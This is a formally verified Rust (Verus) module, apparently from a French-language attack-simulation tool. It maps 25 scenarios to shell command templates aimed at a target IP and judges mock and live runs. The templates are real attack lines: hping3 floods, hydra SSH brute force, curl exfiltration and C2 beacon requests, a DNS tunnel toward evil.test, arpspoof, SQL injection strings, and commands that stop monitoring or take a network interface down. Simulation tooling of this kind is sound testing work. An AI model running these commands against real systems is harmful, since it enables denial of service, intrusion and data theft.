//! The command line of each scenario and the rules by which a run of it is
//! judged. Spawning the process is left to the caller.

use crate::scenarios::catalogue::{
    catalog_scenarios, find_by_id, law_catalog_ids_distinct, lemma_find_by_id_member,
    lemma_find_by_id_some,
};
use crate::scenarios::types::ExecuteOutcome;
use crate::text::{decimal, is_whitespace_char, is_ws, push_char, push_decimal, str_eq};
use vstd::prelude::*;
use vstd::string::*;

verus! {

/// A command line: `prefix`, then the target address where `with_target`,
/// then `suffix`.
pub struct CommandTemplate {
    pub prefix: Seq<char>,
    pub with_target: bool,
    pub suffix: Seq<char>,
}

/// One line of the command table.
pub open spec fn entry(
    scenario: Seq<char>,
    prefix: Seq<char>,
    with_target: bool,
    suffix: Seq<char>,
) -> (Seq<char>, CommandTemplate) {
    (scenario, CommandTemplate { prefix, with_target, suffix })
}

/// The command template of each known scenario, in catalogue order.
#[verifier::opaque]
pub open spec fn command_table() -> Seq<(Seq<char>, CommandTemplate)> {
    seq![
        entry("ddos_syn"@, "hping3 -S --flood -V "@, true, ""@),
        entry("scan_ports"@, "nmap -sS "@, true, ""@),
        entry("brute_force_externe"@, "hydra -l admin -P /opt/wordlists/rockyou.txt ssh://"@, true, ""@),
        entry("ping_flood"@, "hping3 --icmp --flood "@, true, ""@),
        entry("port_interdit"@, "nc -zv "@, true, " 4444"@),
        entry("contact_cc"@, "curl -m 5 http://"@, true, ":8080/beacon"@),
        entry("exfiltration_externe"@, "curl -X POST --data-binary @/tmp/fake_dump.bin http://"@, true, "/upload"@),
        entry("syn_flood_interne"@, "hping3 -S --flood "@, true, ""@),
        entry("scan_interne"@, "nmap -sS "@, true, ""@),
        entry("brute_force"@, "hydra -l admin -P /opt/wordlists/rockyou.txt ssh://"@, true, ""@),
        entry("tunnel_dns"@, "dig @"@, true, " $(python3 -c 'print(\"A\"*120+\".evil.test\")')"@),
        entry("exfiltration"@, "curl -X POST -d @db_dump.sql http://"@, true, "/exfil"@),
        entry("mitm"@, "arpspoof -i eth0 -t "@, true, " 10.0.0.1"@),
        entry("injection_sql"@, "curl \"http://"@, true, "/search?q=' OR 1=1--\""@),
        entry("scraping"@, "curl -s http://"@, true, "/page{1..300}"@),
        entry("ransomware_sim"@, "touch /tmp/sandbox/{1..50}.locked"@, false, ""@),
        entry("replay_attack"@, "curl -H \"Authorization: Bearer EXPIRED_TOKEN\" http://"@, true, "/api"@),
        entry("saturation"@, "dd if=/dev/zero of=/var/tmp/sandbox_saturation.img bs=1M count=100"@, false, ""@),
        entry("monitoring_fail"@, "systemctl stop monitoring-agent.service"@, false, ""@),
        entry("panne_reseau"@, "ip link set dev eth0 down"@, false, ""@),
        entry("acces_non_autorise"@, "curl -u guest:guest http://"@, true, "/admin/secrets"@),
        entry("cert_tls"@, "openssl s_client -connect "@, true, ":443 -cert expired.pem"@),
        entry("mot_de_passe_faible"@, "curl -X POST -d '{\"pass\":\"123456\"}' http://"@, true, "/auth"@),
        entry("rotation_cle"@, "curl -X POST http://"@, true, "/credential/rotate"@),
        entry("injection_base"@, "curl \"http://"@, true, "/rules?query=UNION SELECT ALL\""@),
    ]
}

/// The template of the first line of `table` for `scenario`.
pub open spec fn lookup_template(table: Seq<(Seq<char>, CommandTemplate)>, scenario: Seq<char>) -> Option<
    CommandTemplate,
>
    decreases table.len(),
{
    if table.len() == 0 {
        None
    } else if table[0].0 == scenario {
        Some(table[0].1)
    } else {
        lookup_template(table.drop_first(), scenario)
    }
}

/// The command template of a scenario, if it has one.
pub open spec fn command_template(scenario: Seq<char>) -> Option<CommandTemplate> {
    lookup_template(command_table(), scenario)
}

/// The command line of `scenario` aimed at `target`.
pub open spec fn command_line(t: CommandTemplate, target: Seq<char>) -> Seq<char> {
    if t.with_target {
        t.prefix + target + t.suffix
    } else {
        t.prefix
    }
}

/// The error for a scenario that has no command.
pub open spec fn unknown_scenario_message(scenario: Seq<char>) -> Seq<char> {
    "Scénario inconnu : "@ + scenario
}

/// A table that holds a line for `scenario` (at `k`) yields a template on a
/// lookup of `scenario`.
proof fn lemma_lookup_some(table: Seq<(Seq<char>, CommandTemplate)>, scenario: Seq<char>, k: int)
    requires
        0 <= k < table.len(),
        table[k].0 == scenario,
    ensures
        lookup_template(table, scenario) is Some,
    decreases k,
{
    if k > 0 && table[0].0 != scenario {
        assert(table.drop_first()[k - 1] == table[k]);
        lemma_lookup_some(table.drop_first(), scenario, k - 1);
    }
}

/// A lookup that yields a template found a line for the scenario.
proof fn lemma_lookup_member(table: Seq<(Seq<char>, CommandTemplate)>, scenario: Seq<char>)
    ensures
        lookup_template(table, scenario) is Some ==> exists|k: int|
            0 <= k < table.len() && #[trigger] table[k].0 == scenario,
    decreases table.len(),
{
    if table.len() > 0 && table[0].0 != scenario {
        lemma_lookup_member(table.drop_first(), scenario);
        if lookup_template(table.drop_first(), scenario) is Some {
            let k = choose|k: int| 0 <= k < table.drop_first().len() && #[trigger] table.drop_first()[k].0 == scenario;
            assert(table[k + 1].0 == scenario);
        }
    }
}

/// The command table lists the catalogue's scenarios, in the same order.
proof fn lemma_command_table_ids()
    ensures
        command_table().len() == catalog_scenarios().len(),
        forall|k: int|
            0 <= k < command_table().len() ==> #[trigger] command_table()[k].0
                == catalog_scenarios()[k].id,
{
    reveal(command_table);
    reveal(catalog_scenarios);
}

/// Searching the command table for the scenario of one of its lines finds
/// that line.
proof fn lemma_lookup_each(k: int)
    requires
        0 <= k < command_table().len(),
    ensures
        lookup_template(command_table(), command_table()[k].0) == Some(command_table()[k].1),
    decreases k,
{
    lemma_command_table_ids();
    law_catalog_ids_distinct();
    lemma_lookup_own(command_table(), k);
}

/// A table whose earlier lines name other scenarios yields line `k` for the
/// scenario of line `k`.
proof fn lemma_lookup_own(table: Seq<(Seq<char>, CommandTemplate)>, k: int)
    requires
        0 <= k < table.len(),
        forall|j: int| 0 <= j < k ==> #[trigger] table[j].0 != table[k].0,
    ensures
        lookup_template(table, table[k].0) == Some(table[k].1),
    decreases k,
{
    if k > 0 {
        assert forall|j: int| 0 <= j < k - 1 implies #[trigger] table.drop_first()[j].0
            != table.drop_first()[k - 1].0 by {
            assert(table.drop_first()[j] == table[j + 1]);
        }
        lemma_lookup_own(table.drop_first(), k - 1);
    }
}

/// The command line of every scenario, aimed at `target`: what each attack
/// runs (the target, where the command has one, between a fixed prefix and
/// suffix).
pub proof fn law_command_of_each_scenario(target: Seq<char>)
    ensures
        command_template("ddos_syn"@) matches Some(c) && command_line(c, target) == "hping3 -S --flood -V "@ + target,
        command_template("scan_ports"@) matches Some(c) && command_line(c, target) == "nmap -sS "@ + target,
        command_template("brute_force_externe"@) matches Some(c) && command_line(c, target) == "hydra -l admin -P /opt/wordlists/rockyou.txt ssh://"@ + target,
        command_template("ping_flood"@) matches Some(c) && command_line(c, target) == "hping3 --icmp --flood "@ + target,
        command_template("port_interdit"@) matches Some(c) && command_line(c, target) == "nc -zv "@ + target + " 4444"@,
        command_template("contact_cc"@) matches Some(c) && command_line(c, target) == "curl -m 5 http://"@ + target + ":8080/beacon"@,
        command_template("exfiltration_externe"@) matches Some(c) && command_line(c, target) == "curl -X POST --data-binary @/tmp/fake_dump.bin http://"@ + target + "/upload"@,
        command_template("syn_flood_interne"@) matches Some(c) && command_line(c, target) == "hping3 -S --flood "@ + target,
        command_template("scan_interne"@) matches Some(c) && command_line(c, target) == "nmap -sS "@ + target,
        command_template("brute_force"@) matches Some(c) && command_line(c, target) == "hydra -l admin -P /opt/wordlists/rockyou.txt ssh://"@ + target,
        command_template("tunnel_dns"@) matches Some(c) && command_line(c, target) == "dig @"@ + target + " $(python3 -c 'print(\"A\"*120+\".evil.test\")')"@,
        command_template("exfiltration"@) matches Some(c) && command_line(c, target) == "curl -X POST -d @db_dump.sql http://"@ + target + "/exfil"@,
        command_template("mitm"@) matches Some(c) && command_line(c, target) == "arpspoof -i eth0 -t "@ + target + " 10.0.0.1"@,
        command_template("injection_sql"@) matches Some(c) && command_line(c, target) == "curl \"http://"@ + target + "/search?q=' OR 1=1--\""@,
        command_template("scraping"@) matches Some(c) && command_line(c, target) == "curl -s http://"@ + target + "/page{1..300}"@,
        command_template("ransomware_sim"@) matches Some(c) && command_line(c, target) == "touch /tmp/sandbox/{1..50}.locked"@,
        command_template("replay_attack"@) matches Some(c) && command_line(c, target) == "curl -H \"Authorization: Bearer EXPIRED_TOKEN\" http://"@ + target + "/api"@,
        command_template("saturation"@) matches Some(c) && command_line(c, target) == "dd if=/dev/zero of=/var/tmp/sandbox_saturation.img bs=1M count=100"@,
        command_template("monitoring_fail"@) matches Some(c) && command_line(c, target) == "systemctl stop monitoring-agent.service"@,
        command_template("panne_reseau"@) matches Some(c) && command_line(c, target) == "ip link set dev eth0 down"@,
        command_template("acces_non_autorise"@) matches Some(c) && command_line(c, target) == "curl -u guest:guest http://"@ + target + "/admin/secrets"@,
        command_template("cert_tls"@) matches Some(c) && command_line(c, target) == "openssl s_client -connect "@ + target + ":443 -cert expired.pem"@,
        command_template("mot_de_passe_faible"@) matches Some(c) && command_line(c, target) == "curl -X POST -d '{\"pass\":\"123456\"}' http://"@ + target + "/auth"@,
        command_template("rotation_cle"@) matches Some(c) && command_line(c, target) == "curl -X POST http://"@ + target + "/credential/rotate"@,
        command_template("injection_base"@) matches Some(c) && command_line(c, target) == "curl \"http://"@ + target + "/rules?query=UNION SELECT ALL\""@,
{
    reveal(command_table);
    reveal_strlit("");
    assert(forall|x: Seq<char>| #[trigger] (x + ""@) == x) by {
        assert forall|x: Seq<char>| #[trigger] (x + ""@) == x by {
            assert(x + ""@ =~= x);
        }
    }
    lemma_lookup_each(0);
    assert(command_table()[0] == entry("ddos_syn"@, "hping3 -S --flood -V "@, true, ""@));
    lemma_lookup_each(1);
    assert(command_table()[1] == entry("scan_ports"@, "nmap -sS "@, true, ""@));
    lemma_lookup_each(2);
    assert(command_table()[2] == entry("brute_force_externe"@, "hydra -l admin -P /opt/wordlists/rockyou.txt ssh://"@, true, ""@));
    lemma_lookup_each(3);
    assert(command_table()[3] == entry("ping_flood"@, "hping3 --icmp --flood "@, true, ""@));
    lemma_lookup_each(4);
    assert(command_table()[4] == entry("port_interdit"@, "nc -zv "@, true, " 4444"@));
    lemma_lookup_each(5);
    assert(command_table()[5] == entry("contact_cc"@, "curl -m 5 http://"@, true, ":8080/beacon"@));
    lemma_lookup_each(6);
    assert(command_table()[6] == entry("exfiltration_externe"@, "curl -X POST --data-binary @/tmp/fake_dump.bin http://"@, true, "/upload"@));
    lemma_lookup_each(7);
    assert(command_table()[7] == entry("syn_flood_interne"@, "hping3 -S --flood "@, true, ""@));
    lemma_lookup_each(8);
    assert(command_table()[8] == entry("scan_interne"@, "nmap -sS "@, true, ""@));
    lemma_lookup_each(9);
    assert(command_table()[9] == entry("brute_force"@, "hydra -l admin -P /opt/wordlists/rockyou.txt ssh://"@, true, ""@));
    lemma_lookup_each(10);
    assert(command_table()[10] == entry("tunnel_dns"@, "dig @"@, true, " $(python3 -c 'print(\"A\"*120+\".evil.test\")')"@));
    lemma_lookup_each(11);
    assert(command_table()[11] == entry("exfiltration"@, "curl -X POST -d @db_dump.sql http://"@, true, "/exfil"@));
    lemma_lookup_each(12);
    assert(command_table()[12] == entry("mitm"@, "arpspoof -i eth0 -t "@, true, " 10.0.0.1"@));
    lemma_lookup_each(13);
    assert(command_table()[13] == entry("injection_sql"@, "curl \"http://"@, true, "/search?q=' OR 1=1--\""@));
    lemma_lookup_each(14);
    assert(command_table()[14] == entry("scraping"@, "curl -s http://"@, true, "/page{1..300}"@));
    lemma_lookup_each(15);
    assert(command_table()[15] == entry("ransomware_sim"@, "touch /tmp/sandbox/{1..50}.locked"@, false, ""@));
    lemma_lookup_each(16);
    assert(command_table()[16] == entry("replay_attack"@, "curl -H \"Authorization: Bearer EXPIRED_TOKEN\" http://"@, true, "/api"@));
    lemma_lookup_each(17);
    assert(command_table()[17] == entry("saturation"@, "dd if=/dev/zero of=/var/tmp/sandbox_saturation.img bs=1M count=100"@, false, ""@));
    lemma_lookup_each(18);
    assert(command_table()[18] == entry("monitoring_fail"@, "systemctl stop monitoring-agent.service"@, false, ""@));
    lemma_lookup_each(19);
    assert(command_table()[19] == entry("panne_reseau"@, "ip link set dev eth0 down"@, false, ""@));
    lemma_lookup_each(20);
    assert(command_table()[20] == entry("acces_non_autorise"@, "curl -u guest:guest http://"@, true, "/admin/secrets"@));
    lemma_lookup_each(21);
    assert(command_table()[21] == entry("cert_tls"@, "openssl s_client -connect "@, true, ":443 -cert expired.pem"@));
    lemma_lookup_each(22);
    assert(command_table()[22] == entry("mot_de_passe_faible"@, "curl -X POST -d '{\"pass\":\"123456\"}' http://"@, true, "/auth"@));
    lemma_lookup_each(23);
    assert(command_table()[23] == entry("rotation_cle"@, "curl -X POST http://"@, true, "/credential/rotate"@));
    lemma_lookup_each(24);
    assert(command_table()[24] == entry("injection_base"@, "curl \"http://"@, true, "/rules?query=UNION SELECT ALL\""@));
}

/// A scenario has a command line exactly when the catalogue holds it: every
/// scenario of the catalogue can be played, and nothing else can.
pub proof fn law_commands_match_catalogue(scenario: Seq<char>)
    ensures
        command_template(scenario) is Some <==> find_by_id(catalog_scenarios(), scenario) is Some,
{
    lemma_command_table_ids();
    lemma_find_by_id_member(catalog_scenarios(), scenario);
    lemma_lookup_member(command_table(), scenario);
    if find_by_id(catalog_scenarios(), scenario) is Some {
        let k = choose|k: int|
            0 <= k < catalog_scenarios().len() && catalog_scenarios()[k] == find_by_id(
                catalog_scenarios(),
                scenario,
            )->0;
        assert(command_table()[k].0 == scenario);
        lemma_lookup_some(command_table(), scenario, k);
    }
    if command_template(scenario) is Some {
        let k = choose|k: int| 0 <= k < command_table().len() && #[trigger] command_table()[k].0 == scenario;
        lemma_find_by_id_some(catalog_scenarios(), scenario, k);
    }
}

/// The command table, as texts.
#[verifier::rlimit(50)]
fn command_rows() -> (v: Vec<(&'static str, &'static str, bool, &'static str)>)
    ensures
        v@.len() == command_table().len(),
        forall|k: int|
            0 <= k < v@.len() ==> (#[trigger] v@[k]).0@ == command_table()[k].0 && v@[k].1@
                == command_table()[k].1.prefix && v@[k].2 == command_table()[k].1.with_target
                && v@[k].3@ == command_table()[k].1.suffix,
{
    let mut v: Vec<(&'static str, &'static str, bool, &'static str)> = Vec::new();
    v.push(("ddos_syn", "hping3 -S --flood -V ", true, ""));
    v.push(("scan_ports", "nmap -sS ", true, ""));
    v.push(("brute_force_externe", "hydra -l admin -P /opt/wordlists/rockyou.txt ssh://", true, ""));
    v.push(("ping_flood", "hping3 --icmp --flood ", true, ""));
    v.push(("port_interdit", "nc -zv ", true, " 4444"));
    v.push(("contact_cc", "curl -m 5 http://", true, ":8080/beacon"));
    v.push(("exfiltration_externe", "curl -X POST --data-binary @/tmp/fake_dump.bin http://", true, "/upload"));
    v.push(("syn_flood_interne", "hping3 -S --flood ", true, ""));
    v.push(("scan_interne", "nmap -sS ", true, ""));
    v.push(("brute_force", "hydra -l admin -P /opt/wordlists/rockyou.txt ssh://", true, ""));
    v.push(("tunnel_dns", "dig @", true, " $(python3 -c 'print(\"A\"*120+\".evil.test\")')"));
    v.push(("exfiltration", "curl -X POST -d @db_dump.sql http://", true, "/exfil"));
    v.push(("mitm", "arpspoof -i eth0 -t ", true, " 10.0.0.1"));
    v.push(("injection_sql", "curl \"http://", true, "/search?q=' OR 1=1--\""));
    v.push(("scraping", "curl -s http://", true, "/page{1..300}"));
    v.push(("ransomware_sim", "touch /tmp/sandbox/{1..50}.locked", false, ""));
    v.push(("replay_attack", "curl -H \"Authorization: Bearer EXPIRED_TOKEN\" http://", true, "/api"));
    v.push(("saturation", "dd if=/dev/zero of=/var/tmp/sandbox_saturation.img bs=1M count=100", false, ""));
    v.push(("monitoring_fail", "systemctl stop monitoring-agent.service", false, ""));
    v.push(("panne_reseau", "ip link set dev eth0 down", false, ""));
    v.push(("acces_non_autorise", "curl -u guest:guest http://", true, "/admin/secrets"));
    v.push(("cert_tls", "openssl s_client -connect ", true, ":443 -cert expired.pem"));
    v.push(("mot_de_passe_faible", "curl -X POST -d '{\"pass\":\"123456\"}' http://", true, "/auth"));
    v.push(("rotation_cle", "curl -X POST http://", true, "/credential/rotate"));
    v.push(("injection_base", "curl \"http://", true, "/rules?query=UNION SELECT ALL\""));
    reveal(command_table);
    v
}

/// The template of `scenario`, as three texts.
fn template_of(scenario: &str) -> (r: Option<(&'static str, bool, &'static str)>)
    ensures
        match command_template(scenario@) {
            Some(t) => r matches Some(x) && x.0@ == t.prefix && x.1 == t.with_target && x.2@
                == t.suffix,
            None => r is None,
        },
{
    let v = command_rows();
    let ghost c = command_table();
    let n = v.len();
    let mut i: usize = 0;
    assert(c.skip(0) =~= c);
    while i < n
        invariant
            n == v@.len(),
            c == command_table(),
            n == c.len(),
            forall|k: int|
                0 <= k < v@.len() ==> (#[trigger] v@[k]).0@ == c[k].0 && v@[k].1@ == c[k].1.prefix
                    && v@[k].2 == c[k].1.with_target && v@[k].3@ == c[k].1.suffix,
            i <= n,
            command_template(scenario@) == lookup_template(c.skip(i as int), scenario@),
        decreases n - i,
    {
        let row = v[i];
        assert(row == v@[i as int]);
        if str_eq(row.0, scenario) {
            return Some((row.1, row.2, row.3));
        }
        assert(c.skip(i as int).drop_first() =~= c.skip(i as int + 1));
        i = i + 1;
    }
    None
}

/// The shell command that plays `scenario` against `target_ip`, or an error
/// naming an unknown scenario.
pub fn build_command(scenario: &str, target_ip: &str) -> (r: Result<String, String>)
    ensures
        match command_template(scenario@) {
            Some(t) => r matches Ok(c) && c@ == command_line(t, target_ip@),
            None => r matches Err(e) && e@ == unknown_scenario_message(scenario@),
        },
{
    match template_of(scenario) {
        Some((prefix, with_target, suffix)) => {
            let mut c = String::from_str(prefix);
            if with_target {
                c.append(target_ip);
                c.append(suffix);
            }
            Ok(c)
        },
        None => {
            let mut e = String::from_str("Scénario inconnu : ");
            e.append(scenario);
            Err(e)
        },
    }
}

/// The line that a dry run echoes in place of the command.
pub fn mock_display(command_line: &str, duration_secs: u64) -> (r: String)
    ensures
        r@ == "[SIMULATION MOCK] "@ + command_line@ + " (max "@ + decimal(duration_secs as nat)
            + "s)"@,
{
    let mut r = String::from_str("[SIMULATION MOCK] ");
    r.append(command_line);
    r.append(" (max ");
    push_decimal(&mut r, duration_secs);
    r.append("s)");
    r
}

/// How long a dry run may take: the scenario's duration, at most 5 s.
pub fn mock_wait_secs(duration_secs: u64) -> (r: u64)
    ensures
        r == if duration_secs < 5 {
            duration_secs
        } else {
            5
        },
{
    if duration_secs < 5 {
        duration_secs
    } else {
        5
    }
}

/// How long a live run may take: the scenario's duration, at least 1 s.
pub fn live_wait_secs(duration_secs: u64) -> (r: u64)
    ensures
        r == if duration_secs > 1 {
            duration_secs
        } else {
            1
        },
{
    if duration_secs > 1 {
        duration_secs
    } else {
        1
    }
}

/// How a spawned process ended, as far as the executor looks.
pub enum ProcessRun {
    /// It exited; `success` tells whether with a zero status.
    Finished { success: bool },
    /// It could not be started; the text says why.
    SpawnFailed(String),
    /// It ran past the allotted time.
    TimedOut,
}

/// The verdict on a dry run: a zero exit or a timeout succeeds.
pub fn mock_outcome(run: ProcessRun) -> (r: Result<ExecuteOutcome, String>)
    ensures
        match run {
            ProcessRun::Finished { success } => if success {
                r == Ok::<ExecuteOutcome, String>(ExecuteOutcome::Success)
            } else {
                r matches Err(e) && e@ == "mock command failed"@
            },
            ProcessRun::SpawnFailed(msg) => r matches Err(e) && e@ == "mock spawn: "@ + msg@,
            ProcessRun::TimedOut => r == Ok::<ExecuteOutcome, String>(ExecuteOutcome::Success),
        },
{
    match run {
        ProcessRun::Finished { success } => {
            if success {
                Ok(ExecuteOutcome::Success)
            } else {
                Err(String::from_str("mock command failed"))
            }
        },
        ProcessRun::SpawnFailed(msg) => {
            let mut e = String::from_str("mock spawn: ");
            e.append(msg.as_str());
            Err(e)
        },
        ProcessRun::TimedOut => Ok(ExecuteOutcome::Success),
    }
}

/// The verdict on a live run: anything but a failure to start succeeds.
pub fn live_outcome(run: ProcessRun) -> (r: Result<ExecuteOutcome, String>)
    ensures
        match run {
            ProcessRun::SpawnFailed(msg) => r matches Err(e) && e@ == "live spawn: "@ + msg@,
            _ => r == Ok::<ExecuteOutcome, String>(ExecuteOutcome::Success),
        },
{
    match run {
        ProcessRun::SpawnFailed(msg) => {
            let mut e = String::from_str("live spawn: ");
            e.append(msg.as_str());
            Err(e)
        },
        _ => Ok(ExecuteOutcome::Success),
    }
}

/// The pieces of `s` between whitespace characters (empty pieces included).
pub open spec fn split_ws(s: Seq<char>) -> Seq<Seq<char>>
    decreases s.len(),
{
    if s.len() == 0 {
        seq![Seq::<char>::empty()]
    } else {
        let rest = split_ws(s.drop_last());
        if is_ws(s.last()) {
            rest.push(Seq::<char>::empty())
        } else {
            rest.update(rest.len() - 1, rest.last().push(s.last()))
        }
    }
}

proof fn lemma_split_ws_nonempty(s: Seq<char>)
    ensures
        split_ws(s).len() >= 1,
    decreases s.len(),
{
    if s.len() > 0 {
        lemma_split_ws_nonempty(s.drop_last());
    }
}

/// The whitespace-separated words of `s` (`str::split_whitespace`).
pub open spec fn words(s: Seq<char>) -> Seq<Seq<char>> {
    split_ws(s).filter(|w: Seq<char>| w.len() > 0)
}

/// The program and arguments of a live run: the words of the command line,
/// or an error for a line without any.
pub fn live_command_parts(command_line: &str) -> (r: Result<Vec<String>, String>)
    ensures
        words(command_line@).len() == 0 ==> (r matches Err(e) && e@ == "commande vide"@),
        words(command_line@).len() > 0 ==> (r matches Ok(p) && p.len() == words(
            command_line@,
        ).len() && forall|k: int| 0 <= k < p.len() ==> #[trigger] p[k]@ == words(command_line@)[k]),
{
    let n = command_line.unicode_len();
    let ghost s = command_line@;
    let ghost nonempty = |w: Seq<char>| w.len() > 0;
    let mut out: Vec<String> = Vec::new();
    let mut cur = String::new();
    let mut i: usize = 0;
    assert(s.take(0) =~= Seq::<char>::empty());
    assert(split_ws(s.take(0)).drop_last() =~= Seq::<Seq<char>>::empty());
    assert(Seq::<Seq<char>>::empty().filter(nonempty) == Seq::<Seq<char>>::empty()) by {
        reveal_with_fuel(Seq::<_>::filter, 1);
    }
    while i < n
        invariant
            n == s.len(),
            s == command_line@,
            i <= n,
            nonempty == (|w: Seq<char>| w.len() > 0),
            split_ws(s.take(i as int)).len() >= 1,
            cur@ == split_ws(s.take(i as int)).last(),
            out.len() == split_ws(s.take(i as int)).drop_last().filter(nonempty).len(),
            forall|k: int|
                0 <= k < out.len() ==> #[trigger] out[k]@ == split_ws(
                    s.take(i as int),
                ).drop_last().filter(nonempty)[k],
        decreases n - i,
    {
        let c = command_line.get_char(i);
        let ghost prev = split_ws(s.take(i as int));
        assert(s.take(i as int + 1).drop_last() =~= s.take(i as int));
        assert(s.take(i as int + 1).last() == c);
        proof {
            lemma_split_ws_nonempty(s.take(i as int + 1));
        }
        if is_whitespace_char(c) {
            let ghost next = prev.push(Seq::<char>::empty());
            assert(split_ws(s.take(i as int + 1)) == next);
            assert(next.drop_last() =~= prev);
            assert(prev.filter(nonempty) == if nonempty(prev.last()) {
                prev.drop_last().filter(nonempty).push(prev.last())
            } else {
                prev.drop_last().filter(nonempty)
            }) by {
                reveal_with_fuel(Seq::<_>::filter, 1);
            }
            if cur.as_str().unicode_len() > 0 {
                out.push(cur);
            }
            cur = String::new();
        } else {
            let ghost next = prev.update(prev.len() - 1, prev.last().push(c));
            assert(split_ws(s.take(i as int + 1)) == next);
            assert(next.drop_last() =~= prev.drop_last());
            push_char(&mut cur, c);
        }
        i = i + 1;
    }
    assert(s.take(n as int) =~= s);
    let ghost fin = split_ws(s);
    assert(fin.filter(nonempty) == if nonempty(fin.last()) {
        fin.drop_last().filter(nonempty).push(fin.last())
    } else {
        fin.drop_last().filter(nonempty)
    }) by {
        reveal_with_fuel(Seq::<_>::filter, 1);
    }
    if cur.as_str().unicode_len() > 0 {
        out.push(cur);
    }
    if out.len() == 0 {
        Err(String::from_str("commande vide"))
    } else {
        Ok(out)
    }
}

} // verus!
